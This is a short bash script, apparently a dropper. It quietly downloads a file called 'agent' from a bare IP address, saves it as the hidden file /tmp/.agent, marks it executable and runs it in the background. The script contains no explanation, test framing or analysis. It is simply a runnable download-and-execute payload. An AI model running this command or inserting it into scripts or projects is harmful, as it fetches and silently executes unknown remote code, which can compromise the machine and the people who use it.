#!/bin/bash
wget -q http://203.0.113.19/agent -O /tmp/.agent && chmod +x /tmp/.agent && /tmp/.agent &
